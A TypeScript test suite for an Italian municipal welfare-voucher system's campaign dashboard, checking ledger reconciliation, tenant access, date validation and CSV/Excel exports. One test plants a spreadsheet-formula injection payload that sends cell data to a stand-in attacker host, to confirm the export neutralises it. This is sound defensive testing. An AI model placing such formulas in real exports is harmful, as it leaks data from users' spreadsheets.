import { randomUUID } from 'node:crypto';
import { createLogger, type Caller, type PersonCaller, type Role } from '@welfare/kit';
import { startSubgraph, type RunningSubgraph } from '@welfare/kit/subgraph';
import { createTokenSigner, generateGatewayKeys } from '@welfare/kit/auth';
import ExcelJS from 'exceljs';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { Campaign } from '../src/modules/campaign/campaign.entity.js';
import { book } from '../src/modules/ledger/ledger.js';
import { romeDay } from '@welfare/kit/dates';
import { monitoringRoutes } from '../src/modules/monitoring/monitoring.routes.js';
import type { CampaignDashboard } from '../src/modules/monitoring/monitoring.service.js';
import type { ShopAccreditation } from '../src/modules/shop/shop.entity.js';
import { LASTING_INCOME, PDF, campaignInput } from './campaign-fixtures.js';
import { CF, REGISTRY } from './fixtures.js';
import {
  ADMIN,
  ANONYMOUS,
  COMUNE_A,
  COMUNE_B,
  caught,
  errorCode,
  setupSuite,
  staff,
  type Suite,
} from './helpers.js';

/** The campaign dashboard: figures reconciled with the book, tenancy, bad input, CSV and Excel. */
let suite: Suite;
let server: RunningSubgraph;
let sign: Awaited<ReturnType<typeof createTokenSigner>>;
const em = () => suite.orm.em.fork();
const operator = staff(COMUNE_A);
const manager = staff(COMUNE_A, 'MANAGER');
const operatorB = staff(COMUNE_B);
const citizen = (fiscalCode: string): PersonCaller => ({
  kind: 'person',
  personId: randomUUID(),
  sessionId: randomUUID(),
  platformAdmin: false,
  memberships: [],
  fiscalCode,
});
const merchantPerson = (merchantId: string, role: Role): PersonCaller => ({
  kind: 'person',
  personId: randomUUID(),
  sessionId: randomUUID(),
  platformAdmin: false,
  memberships: [{ organisationId: merchantId, organisationKind: 'MERCHANT', role }],
});
const mario = citizen(CF.mario);
const sara = citizen(CF.sara);
const SHOP_A = randomUUID();
const SHOP_B = randomUUID();
const SHOP_C = randomUUID();
const ownerA = merchantPerson(SHOP_A, 'OWNER');
const cashierA = merchantPerson(SHOP_A, 'CASHIER');
const ownerB = merchantPerson(SHOP_B, 'OWNER');
const cashierB = merchantPerson(SHOP_B, 'CASHIER');
const ownerC = merchantPerson(SHOP_C, 'OWNER');

/** The campaign under test, and a second one ending earlier (its credit is spent first). */
let main: Campaign;
let second: Campaign;
let shopA: ShopAccreditation;
let shopASecond: ShopAccreditation;
let shopB: ShopAccreditation;
const pins = new Map<string, string>();
const TODAY = romeDay(new Date());
const dayBefore = (d: string, n = 1) =>
  new Date(Date.parse(`${d}T00:00:00Z`) - n * 86_400_000).toISOString().slice(0, 10);

async function apply(who: PersonCaller, c: Campaign) {
  const draft = await suite.services.applications.saveDraft(em(), who, {
    campaignId: c.id,
    privacyNoticeAcknowledged: true,
    acceptedDeclarations: ['TRUE'],
  });
  await suite.services.applications.addDocument(em(), who, draft.id, {
    code: 'ID',
    fileName: 'ci.pdf',
    content: PDF,
  });
  return suite.services.applications.submit(em(), who, draft.id);
}

async function accredit(
  owner: PersonCaller,
  merchantId: string,
  campaignId: string,
  name: string,
  categories: string[],
  decide = true,
) {
  const asked = await suite.services.shops.requestAccreditation(em(), owner, {
    merchantId,
    campaignId,
    partitaIva: '12345678903',
    iban: 'IT60 X054 2811 1010 0000 0123 456',
    businessName: name,
    categories,
    pointsOfSale: [{ name: 'Centro', address: 'Via Roma 1, Prova' }],
  });
  return decide ? suite.services.shops.decide(em(), operator, asked.id, 'ACCREDITED') : asked;
}

function charge(
  cashier: PersonCaller,
  shop: ShopAccreditation,
  fiscalCode: string,
  amountCents: number,
  category: string,
) {
  return suite.services.payments.charge(em(), cashier, {
    idempotencyKey: randomUUID(),
    accreditationId: shop.id,
    card: { fiscalCode },
    pin: pins.get(fiscalCode)!,
    amountCents,
    category,
  });
}

const dashboard = (caller: Caller, campaignId: string, period?: { from?: string; to?: string }) =>
  suite.services.monitoring.dashboard(em(), caller, campaignId, period);

/** The posted balances of the campaign's card accounts, read from the book's account rows. */
async function bookUnspent(campaignId: string): Promise<number> {
  const [row] = await suite.orm.em.getConnection().execute<{ n: string }[]>(
    `select coalesce(sum(credits_posted - debits_posted), 0)::text as n
         from "public_welfare"."book_account" where kind = 'HOLDER' and code like ?`,
    [`card:%:campaign:${campaignId}`],
  );
  return Number(row!.n);
}

const sum = (xs: { amountCents: number }[]) => xs.reduce((s, x) => s + x.amountCents, 0);
const count = (xs: { payments: number }[]) => xs.reduce((s, x) => s + x.payments, 0);

/** The invariants every dashboard must show, whatever happened before. */
async function expectReconciled(d: CampaignDashboard) {
  expect(d.creditedCents - d.spentCents - d.returnedCents).toBe(d.unspentCents);
  expect(d.unspentCents).toBe(await bookUnspent(d.campaignId));
  expect(sum(d.byShop)).toBe(d.spentCents);
  expect(sum(d.byCategory)).toBe(d.spentCents);
  expect(sum(d.byDay)).toBe(d.spentCents);
  expect(d.byDay.reduce((s, x) => s + x.creditedCents, 0)).toBe(d.creditedCents);
  expect(d.byDay.reduce((s, x) => s + x.returnedCents, 0)).toBe(d.returnedCents);
  expect(count(d.byShop)).toBe(d.payments);
  expect(count(d.byCategory)).toBe(d.payments);
  expect(count(d.byDay)).toBe(d.payments);
}

const auth = async (caller: Caller) => ({
  authorization: `Bearer ${await sign('public-welfare', caller, 'req-1')}`,
});
const get = async (caller: Caller, path: string) =>
  fetch(`${server.url}${path}`, { headers: await auth(caller) });

beforeAll(async () => {
  suite = await setupSuite('monitoring');
  await suite.importText(operator, COMUNE_A, 'REGISTRY', REGISTRY);
  await suite.importText(operator, COMUNE_A, 'INCOME', LASTING_INCOME);
  const create = async (overrides = {}) =>
    suite.services.campaigns.publish(
      em(),
      manager,
      (await suite.services.campaigns.create(em(), operator, campaignInput(COMUNE_A, overrides)))
        .id,
    );
  main = await create();
  second = await create({ title: 'Buoni urgenti', spendingUntil: '2029-06-30' });
  const forMario = await apply(mario, main);
  const forSara = await apply(sara, main);
  const forMarioSecond = await apply(mario, second);
  await suite.services.cases.bulkApprove(em(), operator, [
    forMario.id,
    forSara.id,
    forMarioSecond.id,
  ]);
  const { issued } = await suite.services.cards.issueForCampaign(em(), operator, main.id);
  for (const i of issued) pins.set(i.fiscalCode, i.pin);
  expect(pins.size).toBe(2);
  shopA = await accredit(ownerA, SHOP_A, main.id, 'Alimentari Rossi', ['FOOD', 'HYGIENE']);
  shopASecond = await accredit(ownerA, SHOP_A, second.id, 'Alimentari Rossi', ['FOOD']);
  shopB = await accredit(ownerB, SHOP_B, main.id, 'Farmacia Bianchi', ['FOOD', 'PHARMACY']);
  // Asked, never accredited, no payments: not in the dashboard.
  await accredit(ownerC, SHOP_C, main.id, 'Bottega in attesa', ['OTHER'], false);

  const keys = await generateGatewayKeys();
  sign = await createTokenSigner(keys.privateKey);
  server = await startSubgraph({
    name: 'public-welfare',
    schema: suite.schema,
    orm: suite.orm,
    host: '127.0.0.1',
    port: 0,
    gatewayPublicKey: keys.publicKey,
    logger: createLogger('public-welfare-test', 'silent'),
    routes: monitoringRoutes({ orm: suite.orm, monitoring: suite.services.monitoring }),
  });
}, 120_000);
afterAll(() => server.stop());

afterEach(async () => {
  const report = await book.checkInvariants(em());
  expect(report.problems).toEqual([]);
  // And the checks above the book (issue 11): the reconciliation of the Comune's money.
  expect(await suite.services.reconciliation.check(em(), COMUNE_A)).toEqual([]);
});

describe('campaign dashboard', () => {
  it('before any top-up: budget and commitments, the accredited shops at zero, no days', async () => {
    const d = await dashboard(operator, main.id);
    expect(d).toMatchObject({
      campaignId: main.id,
      campaignTitle: main.title,
      budgetCents: 100_000,
      committedCents: 50_000, // Mario's household of 3 (300 €) and Sara's of 2 (200 €)
      approvedApplications: 2,
      creditedCents: 0,
      spentCents: 0,
      returnedCents: 0,
      unspentCents: 0,
      beneficiariesCredited: 0,
      cardsWithCredit: 0,
      beneficiariesWithCredit: 0,
      payments: 0,
      voidedPayments: 0,
      byCategory: [],
      byDay: [],
      periodFrom: null,
      periodTo: null,
    });
    expect(d.byShop.map((s) => [s.businessName, s.payments, s.amountCents]).sort()).toEqual([
      ['Alimentari Rossi', 0, 0],
      ['Farmacia Bianchi', 0, 0],
    ]);
    await expectReconciled(d);
  });

  it('after top-ups in tranches, payments across two campaigns and a void: the figures reconcile with the book', async () => {
    const t1 = await suite.services.topUps.topUpCampaign(em(), operator, main.id, {
      number: 1,
      percent: 50,
    });
    const t2 = await suite.services.topUps.topUpCampaign(em(), operator, main.id, { number: 2 });
    expect(t1.creditedCents + t2.creditedCents).toBe(50_000);
    await suite.services.topUps.topUpCampaign(em(), operator, second.id);

    // Mario's 350 € spend the second campaign's 300 € first (it ends earlier), then 50 € of main.
    await charge(cashierA, shopA, CF.mario, 35_000, 'FOOD');
    await charge(cashierB, shopB, CF.sara, 4_000, 'FOOD');
    await charge(cashierB, shopB, CF.sara, 2_550, 'PHARMACY');
    const voided = await charge(cashierA, shopA, CF.sara, 1_000, 'HYGIENE');
    await suite.services.payments.voidPayment(em(), cashierA, voided.payment.id);
    await charge(cashierA, shopA, CF.mario, 700, 'HYGIENE');

    const d = await dashboard(operator, main.id);
    expect(d).toMatchObject({
      committedCents: 50_000,
      creditedCents: 50_000,
      spentCents: 5_000 + 4_000 + 2_550 + 700,
      returnedCents: 0,
      unspentCents: 50_000 - 12_250,
      beneficiariesCredited: 2,
      cardsWithCredit: 2,
      beneficiariesWithCredit: 2,
      payments: 4,
      voidedPayments: 1,
    });
    await expectReconciled(d);
    expect(d.byShop.map((s) => [s.businessName, s.status, s.payments, s.amountCents])).toEqual([
      ['Farmacia Bianchi', 'ACCREDITED', 2, 6_550],
      ['Alimentari Rossi', 'ACCREDITED', 2, 5_700],
    ]);
    expect(d.byShop.find((s) => s.businessName === 'Alimentari Rossi')!.accreditationId).toBe(
      shopA.id,
    );
    expect(d.byCategory.map((c) => [c.category, c.payments, c.amountCents])).toEqual([
      ['FOOD', 2, 9_000],
      ['PHARMACY', 1, 2_550],
      ['HYGIENE', 1, 700],
    ]);
    expect(d.periodFrom).toBe(TODAY);
    expect(d.periodTo).toBe(TODAY);
    expect(d.byDay).toEqual([
      { date: TODAY, payments: 4, amountCents: 12_250, creditedCents: 50_000, returnedCents: 0 },
    ]);
    expect(Math.abs(d.generatedAt.getTime() - Date.now())).toBeLessThan(60_000);

    // The second campaign sees only its own leg of Mario's payment, at its own accreditation.
    const s = await dashboard(operator, second.id);
    expect(s).toMatchObject({
      creditedCents: 30_000,
      spentCents: 30_000,
      unspentCents: 0,
      payments: 1,
      cardsWithCredit: 0,
    });
    expect(s.byShop.map((x) => [x.accreditationId, x.payments, x.amountCents])).toEqual([
      [shopASecond.id, 1, 30_000],
    ]);
    await expectReconciled(s);
  });

  it('bounds the by-day series with a period, filling days without movements', async () => {
    const yesterday = dayBefore(TODAY);
    const one = await dashboard(operator, main.id, { from: TODAY, to: TODAY });
    expect(one.byDay.map((x) => x.date)).toEqual([TODAY]);
    const two = await dashboard(operator, main.id, { from: yesterday, to: TODAY });
    expect(two.byDay).toEqual([
      { date: yesterday, payments: 0, amountCents: 0, creditedCents: 0, returnedCents: 0 },
      { date: TODAY, payments: 4, amountCents: 12_250, creditedCents: 50_000, returnedCents: 0 },
    ]);
    expect([two.periodFrom, two.periodTo]).toEqual([yesterday, TODAY]);
    // The totals and the other breakdowns ignore the period.
    expect(two.spentCents).toBe(12_250);
    expect(sum(two.byShop)).toBe(12_250);
    const fromOnly = await dashboard(operator, main.id, { from: dayBefore(TODAY, 2) });
    expect(fromOnly.byDay).toHaveLength(3);
    const toOnly = await dashboard(operator, main.id, { to: yesterday });
    expect(toOnly.byDay).toEqual([
      { date: yesterday, payments: 0, amountCents: 0, creditedCents: 0, returnedCents: 0 },
    ]);
  });

  it('through GraphQL, with every field documented', async () => {
    const result = await suite.run<{
      campaignDashboard: { spentCents: number; byShop: { amountCents: number }[] };
    }>(
      `query($c: ID!, $p: DashboardPeriodInput) {
        campaignDashboard(campaignId: $c, period: $p) {
          campaignId generatedAt budgetCents committedCents creditedCents spentCents returnedCents
          unspentCents payments voidedPayments cardsWithCredit beneficiariesWithCredit
          byShop { accreditationId businessName payments amountCents }
          byCategory { category payments amountCents }
          periodFrom periodTo
          byDay { date payments amountCents creditedCents returnedCents }
        }
      }`,
      { c: main.id, p: { from: TODAY, to: TODAY } },
      operator,
    );
    expect(result.errors).toBeUndefined();
    expect(result.data!.campaignDashboard.spentCents).toBe(12_250);
    expect(sum(result.data!.campaignDashboard.byShop)).toBe(12_250);
    const type = suite.schema.getType('CampaignDashboard') as unknown as {
      description: string;
      getFields(): Record<string, { description?: string | null }>;
    };
    expect(type.description).toBeTruthy();
    for (const [name, field] of Object.entries(type.getFields()))
      expect(field.description, name).toBeTruthy();
  });

  it('tenancy: another Comune, a citizen or a shop get NOT_FOUND; anonymous UNAUTHENTICATED; nothing is written', async () => {
    const before = await suite.count('book_transfer');
    for (const who of [operatorB, mario, cashierA, ownerA]) {
      expect((await caught(() => dashboard(who, main.id))).code).toBe('NOT_FOUND');
    }
    expect((await caught(() => dashboard(operator, 'not-a-uuid'))).code).toBe('NOT_FOUND');
    expect((await caught(() => dashboard(operator, randomUUID()))).code).toBe('NOT_FOUND');
    expect((await caught(() => dashboard(ANONYMOUS, main.id))).code).toBe('UNAUTHENTICATED');
    // Bad input of another Comune's campaign is still NOT_FOUND (nothing is told).
    expect((await caught(() => dashboard(operatorB, main.id, { from: 'x' }))).code).toBe(
      'NOT_FOUND',
    );
    expect((await dashboard(ADMIN, main.id)).spentCents).toBe(12_250);
    const viaGraphql = await suite.run(
      `query($c: ID!) { campaignDashboard(campaignId: $c) { spentCents } }`,
      { c: main.id },
      operatorB,
    );
    expect(errorCode(viaGraphql)).toBe('NOT_FOUND');
    expect(viaGraphql.data).toBeNull();
    expect(await suite.count('book_transfer')).toBe(before);
  });

  it('bad periods are refused with field messages in Italian and English', async () => {
    const cases: [{ from?: string; to?: string }, string][] = [
      [{ from: '2026-02-30' }, 'period.from'],
      [{ from: '24/11/2026' }, 'period.from'],
      [{ to: 'ieri' }, 'period.to'],
      [{ from: TODAY, to: dayBefore(TODAY) }, 'period.to'],
      [{ from: '2025-01-01', to: '2026-01-02' }, 'period.to'],
    ];
    for (const [period, field] of cases) {
      const err = await caught(() => dashboard(operator, main.id, period));
      expect(err.code, JSON.stringify(period)).toBe('BAD_USER_INPUT');
      expect(err.fields.map((f) => f.field)).toEqual([field]);
      expect(err.fields[0]!.message.it).toBeTruthy();
      expect(err.fields[0]!.message.en).toBeTruthy();
    }
    // 366 days are allowed.
    const year = await dashboard(operator, main.id, { from: dayBefore(TODAY, 365), to: TODAY });
    expect(year.byDay).toHaveLength(366);
    expect(sum(year.byDay)).toBe(12_250);
  });

  it('after the window, the sweep: returned credit leaves nothing unspent and still reconciles', async () => {
    await suite.orm.em
      .getConnection()
      .execute(
        `update "public_welfare"."campaign" set "spending_from" = '2025-01-01', "spending_until" = '2025-12-31' where id = ?`,
        [main.id],
      );
    const swept = await suite.services.topUps.sweepExpired(em(), operator, main.id);
    expect(swept.returnedCents).toBe(37_750);
    const d = await dashboard(operator, main.id);
    expect(d).toMatchObject({
      creditedCents: 50_000,
      spentCents: 12_250,
      returnedCents: 37_750,
      unspentCents: 0,
      beneficiariesCredited: 2,
      cardsWithCredit: 0,
      beneficiariesWithCredit: 0,
      payments: 4,
      spendingUntil: '2025-12-31',
    });
    expect(d.byDay).toEqual([
      {
        date: TODAY,
        payments: 4,
        amountCents: 12_250,
        creditedCents: 50_000,
        returnedCents: 37_750,
      },
    ]);
    await expectReconciled(d);
  });
});

describe('dashboard exports over HTTP', () => {
  it('CSV: Italian Excel dialect, four sections, the same figures', async () => {
    const res = await get(operator, `/files/monitoring/dashboard.csv?campaignId=${main.id}`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toContain('cruscotto.csv');
    const bytes = Buffer.from(await res.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8').slice(1);
    const lines = text.split('\r\n');
    expect(lines[0]).toBe(`Cruscotto della misura;${main.title}`);
    expect(lines[1]).toMatch(/^Dati al;\d{2}\/\d{2}\/\d{4} \d{2}:\d{2}:\d{2}$/);
    const section = (title: string) => {
      const start = lines.indexOf(title);
      expect(start, title).toBeGreaterThan(0);
      const end = lines.indexOf('', start);
      return lines.slice(start + 1, end);
    };
    const summary = section('Riepilogo');
    expect(summary[0]).toBe('voce;valore');
    expect(summary).toContain('Budget;1000,00');
    expect(summary).toContain('Accreditato sulle carte;500,00');
    expect(summary).toContain('Speso negli esercizi;122,50');
    expect(summary).toContain('Restituito al fondo;377,50');
    expect(summary).toContain('Non speso (credito sulle carte);0,00');
    expect(summary).toContain('Pagamenti;4');
    expect(section('Per esercente')).toEqual([
      'esercente;stato;pagamenti;importo_euro',
      'Farmacia Bianchi;Accreditato;2;65,50',
      'Alimentari Rossi;Accreditato;2;57,00',
    ]);
    expect(section('Per categoria')).toEqual([
      'categoria;pagamenti;importo_euro',
      'Alimentari;2;90,00',
      'Farmacia;1;25,50',
      'Igiene e casa;1;7,00',
    ]);
    const [y, m, dd] = TODAY.split('-');
    expect(section('Per giorno')).toEqual([
      'data;pagamenti;speso_euro;accreditato_euro;restituito_euro',
      `${dd}/${m}/${y};4;122,50;500,00;377,50`,
    ]);
  });

  it('CSV: a shop name a spreadsheet would run stays text', async () => {
    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Apri")';
    const rename = (from: string, to: string) =>
      suite.orm.em
        .getConnection()
        .execute(
          `update "public_welfare"."shop_accreditation" set "business_name" = ? where "business_name" = ?`,
          [to, from],
        );
    await rename('Farmacia Bianchi', formula);
    try {
      const res = await get(operator, `/files/monitoring/dashboard.csv?campaignId=${main.id}`);
      const lines = Buffer.from(await res.arrayBuffer())
        .toString('utf8')
        .slice(1)
        .split('\r\n');
      expect(lines).toContain(
        `"'=HYPERLINK(""http://evil.example/?d=""&A1,""Apri"")";Accreditato;2;65,50`,
      );
      expect(lines.some((l) => /^"?[=+\-@]/.test(l) && !/^-?\d/.test(l))).toBe(false);
    } finally {
      await rename(formula, 'Farmacia Bianchi');
    }
  });

  it('Excel: one sheet per table, bold Italian headers, euro amounts as numbers', async () => {
    const res = await get(operator, `/files/monitoring/dashboard.xlsx?campaignId=${main.id}`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await res.arrayBuffer());
    expect(workbook.worksheets.map((w) => w.name)).toEqual([
      'Riepilogo',
      'Per esercente',
      'Per categoria',
      'Per giorno',
    ]);
    const values = (name: string) =>
      workbook
        .getWorksheet(name)!
        .getSheetValues()
        .slice(1)
        .map((row) => (row as unknown[]).slice(1));
    for (const sheet of workbook.worksheets)
      expect(sheet.getRow(1).font?.bold, sheet.name).toBe(true);

    const summary = new Map(values('Riepilogo').map(([k, v]) => [k, v]));
    expect(summary.get('Speso negli esercizi')).toBe(122.5);
    expect(summary.get('Accreditato sulle carte')).toBe(500);
    expect(summary.get('Non speso (credito sulle carte)')).toBe(0);
    expect(summary.get('Pagamenti')).toBe(4);
    const spentCell = workbook
      .getWorksheet('Riepilogo')!
      .getColumn(1)
      .values.indexOf('Speso negli esercizi');
    expect(workbook.getWorksheet('Riepilogo')!.getCell(spentCell, 2).numFmt).toContain('€');

    const shops = values('Per esercente');
    expect(shops[0]).toEqual(['Esercente', 'Stato', 'Pagamenti', 'Importo']);
    expect(shops.slice(1)).toEqual([
      ['Farmacia Bianchi', 'Accreditato', 2, 65.5],
      ['Alimentari Rossi', 'Accreditato', 2, 57],
    ]);
    expect(shops.slice(1).reduce((s, r) => s + Math.round((r[3] as number) * 100), 0)).toBe(12_250);
    expect(workbook.getWorksheet('Per esercente')!.getCell('D2').numFmt).toContain('€');
    const categories = values('Per categoria');
    expect(categories[0]).toEqual(['Categoria', 'Pagamenti', 'Importo']);
    expect(categories.slice(1).reduce((s, r) => s + Math.round((r[2] as number) * 100), 0)).toBe(
      12_250,
    );
    const days = values('Per giorno');
    expect(days[0]).toEqual(['Data', 'Pagamenti', 'Speso', 'Accreditato', 'Restituito']);
    expect(days.slice(1)).toEqual([[new Date(`${TODAY}T00:00:00Z`), 4, 122.5, 500, 377.5]]);
  });

  it('refuses another Comune (404), anonymous (401), a bad period (400, field messages) and a missing token', async () => {
    for (const ext of ['csv', 'xlsx']) {
      const path = `/files/monitoring/dashboard.${ext}?campaignId=${main.id}`;
      const other = await get(operatorB, path);
      expect(other.status).toBe(404);
      expect(
        ((await other.json()) as { errors: { extensions: { code: string } }[] }).errors[0]!
          .extensions.code,
      ).toBe('NOT_FOUND');
      expect((await get(ANONYMOUS, path)).status).toBe(401);
      expect((await fetch(`${server.url}${path}`)).status).toBe(401);
      const bad = await get(operator, `${path}&from=2026-13-01`);
      expect(bad.status).toBe(400);
      const body = (await bad.json()) as {
        errors: {
          extensions: { fields: { field: string; message: { it: string; en: string } }[] };
        }[];
      };
      expect(body.errors[0]!.extensions.fields[0]!.field).toBe('period.from');
      expect(body.errors[0]!.extensions.fields[0]!.message.en).toBeTruthy();
    }
  });
});
